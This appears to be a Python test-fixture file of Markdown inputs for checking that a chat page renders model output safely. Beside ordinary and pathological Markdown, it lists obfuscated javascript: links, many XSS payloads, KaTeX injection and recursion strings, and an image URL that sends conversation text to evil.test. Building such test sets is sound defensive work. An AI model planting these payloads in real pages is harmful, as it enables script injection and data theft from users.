"""Texts that the page must draw: the plain ones, and those of somebody who means harm."""

from collections.abc import Mapping

# One of each thing that a model writes.
RICH = """# A small plan

Some **bold**, *soft* and ~~gone~~ words, `code`, and [a link](https://example.org/a?b=1&c).
A second line of the same paragraph; www.example.org too.

Setext
------

- first
- second

  with a paragraph
  - nested
    1. deeper
- [x] done
- [ ] open

3. three
4. four

> A quote
> of two lines
>
> - with a list

| name | size |
|:-----|-----:|
| tea  | 2    |
| `a\\|b` | *3* |

```python
def hello(name):

    return f"hello {name}"
```

Money: $5 and $10. Math: $x^2$, \\(y_1\\) and
$$
a = b
- c
$$
more words

\\[ \\frac{1}{2} \\]

    indented code

***

The end
"""

# Each of these once changed its mind about an earlier line while it grew.
RESTLESS = (
    "- a\n#hash\n- b\n",
    "a\n\n$$\nb\n- c\n\nd $$ e\n",
    "a\n$$\nb\n$$\nc\n",
    "$$ a $$ is inline\n",
    "a\n===\nb\n---\nc\n",
    "- a\n\n  b\n- c\n\n\n- d\n\ne\n",
    "1. a\n2) b\n* c\n- d\n",
    "> a\nlazy\n\n> b\n",
    "p\n| a | b |\n|---|---|\n| 1 | 2 |\n\n| not | a row |\n",
    "| a |\n|---|\n| 1 |\n- list\n",
    "~~~\na\n```\nb\n~~~\nc\n",
    "```\nnever closed\n\n- a\n",
    "- ```\n  a\n\n  b\n  ```\n- c\n",
    "a\r\nb\r\n\r\n- c\r\n",
    "[a]: https://example.org\n\n[a] and [b][a]\n",
    "<div>\n\n**a**\n</div>\n",
    "    a\n\n    b\nc\n",
    "- a\n\n\tb\n\n\tc\n- [ ] d\n",
    "**a\n\nb** `c\n\nd`\n",
    "\n\n\n  \na\n\n\n\n",
    "* * *\n- - -\n- a\n- - b\n",
    "a\\\nb  \nc\n",
)

LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.test/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/x)",
    "[x](/sign-out)",
    "[x](#main)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://evil.test/"onmouseover="alert(1))',
    "[x](https://evil.test/ \"a' onclick='alert(1)\")",
)

MARKUP = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/pixel.png>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import 'https://evil.test/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.test/x></object><embed src=https://evil.test/x>",
    "<form action=https://evil.test><input name=a><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test>",
    "<video src=https://evil.test/v autoplay></video><audio src=https://evil.test/a autoplay></audio>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='background:url(https://evil.test/x)' data-controller=words data-action='click->message#edit'>x</div>",
    "<button data-act=remove>x</button><p data-act=remove data-words-target=text>x</p>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "</div></article></main><h1>out</h1>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "``` <img src=x onerror=alert(1)>\nx\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "![alt <img src=x onerror=alert(1)>](https://evil.test/a.png)",
    "![data](https://evil.test/?q=what-you-said)",
    "[![x](https://evil.test/a.png)](https://evil.test/b)",
    "\u202eesrever\u202d [x](https://evil.test/\u202egnp.exe) \u2066a",
)

FORMULAS = (
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\a#1{\\a{#1#1}}\\a{x}$",
    "$$\n\\newcommand{\\b}{\\b\\b}\\b\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\includegraphics{https://evil.test/x.png}$",
    "$\\htmlStyle{position:fixed}{x}$",
    "$\\htmlData{controller=words}{x}$",
    "$\\htmlClass{button}{x}$",
    "$\\rule{99999em}{99999em}$",
    "$\\kern-99999em x$",
    "$\\raisebox{9999em}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\unknown{x}$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$" + "\\frac{1}{" * 150 + "x" + "}" * 150 + "$",
    "$" + "x^{" * 300 + "x" + "}" * 300 + "$",
    "$$\n" + "a + b\n" * 400 + "$$",
    "$\\color{url(https://evil.test/x)}{x}$",
)

# How long each is does not matter to whoever reads the page meanwhile.
HEAVY: Mapping[str, str] = {
    "quotes": ">" * 1_000 + " x",
    "spaced quotes": "> " * 1_000 + " x",
    "lists on a line": "- " * 1_000 + "x",
    "lists by indent": "".join("  " * i + "- x\n" for i in range(1_000)),
    "quotes and lists": "> - " * 1_000 + "x",
    "no break": "y" * 90_000,
    "no break in code": "```\n" + "y" * 100_000,
    "unclosed code": "```python\n" + "x = 1\n" * 8_000,
    "unclosed code in a list": "- a\n  ```\n" + "  x = 1\n" * 6_000,
    "brackets": "[" * 15_900,
    "pictures": "![" * 7_900,
    "links": "[a](" * 3_900,
    "stars": "*a " * 5_200,
    "stars and lines": "*a_ " * 3_900,
    "strong": "a**b" * 3_900,
    "waves": "~a~~b~~~" * 1_900,
    "ticks": "".join("`" * i + " " for i in range(170)),
    "tags": "<a " * 5_200,
    "less than": "<" * 15_900,
    "dollars": "$a" * 7_900,
    "parentheses": "\\(" * 7_900,
    "pipes": "|" * 15_900,
    "a wide table": "|" + "a|" * 4_000 + "\n|" + "-|" * 4_000 + "\n|" + "a|" * 4_000,
    "hosts": "www." * 3_900,
    "dots": "a." * 7_900 + "@",
    "backslashes": "\\" * 15_900,
    "formulas": "$$\na\n$$\n" * 2_000,
    "blank": " " * 100_000 + "x",
}


def long_answer(characters: int) -> str:
    """Return an answer of about this length with every kind of block in it, again and again."""
    parts: list[str] = []
    while sum(map(len, parts)) < characters:
        number = len(parts)
        parts.append(f"## Part {number}\n\n{RICH.partition('---')[2]}\n\n")
        parts.append("".join(f"{i}. step {i} with **bold** words and `code`\n" for i in range(1, 12)) + "\n")
        parts.append("A paragraph of words that goes on for a while. " * 12 + "\n\n")
    return "".join(parts)[:characters]
